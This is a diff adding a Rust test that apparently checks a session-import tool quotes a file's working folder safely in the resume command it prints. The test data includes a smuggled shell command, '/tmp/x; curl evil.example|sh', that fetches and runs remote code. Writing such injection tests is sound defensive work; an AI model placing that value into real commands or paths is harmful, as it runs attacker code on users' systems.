@@ -230,6 +230,34 @@ fn one_of_ours_that_had_no_id_says_so() {
     is_well_formed(&world);
 }
 
+/// Whoever made the file chose its folder. The command to paste must not run what stands in it.
+#[test]
+fn the_folder_of_a_file_is_one_word_of_the_command_to_paste() {
+    const FOLDER: &str = "/tmp/x; curl evil.example|sh #'";
+    const WORD: &str = r"'/tmp/x; curl evil.example|sh #'\'''";
+    let own = |_: &World| {
+        let at = "2026-01-01T10:00:00.000Z";
+        vec![
+            json!({ "type": "session_started", "entry": "e1", "at": at, "id": "e1", "session": "abc", "cwd": FOLDER,
+                "model": "script", "version": 2, "app": "0.1.0", "system": "" }),
+            json!({ "type": "user_message", "entry": "e2", "at": at, "id": "e2", "content": "hello" }),
+        ]
+    };
+    for lines in [&claude as &dyn Fn(&World) -> Vec<Value>, &codex, &own] {
+        let world = World::new();
+        let mut lines = lines(&world);
+        for place in ["/cwd", "/payload/cwd"] {
+            lines.iter_mut().filter_map(|line| line.pointer_mut(place)).for_each(|cwd| *cwd = json!(FOLDER));
+        }
+        let ran = import(&world, &lines, &[]);
+        let id = ran.out.split_whitespace().next().unwrap().to_owned();
+        let command = format!("Continue with: countersign -C {WORD} resume {id}\n");
+        assert!(ran.code == 0 && ran.out.ends_with(&command), "{ran:?}");
+        let elsewhere = world.refused(&["--script", r#"["x"]"#, "--resume", &id, "go on"]);
+        assert!(elsewhere.contains(&format!("`countersign -C {WORD} resume {id}`")), "{elsewhere}");
+    }
+}
+
 #[test]
 fn what_was_imported_goes_on_with_every_protocol() {
     for lines in [claude, codex] {
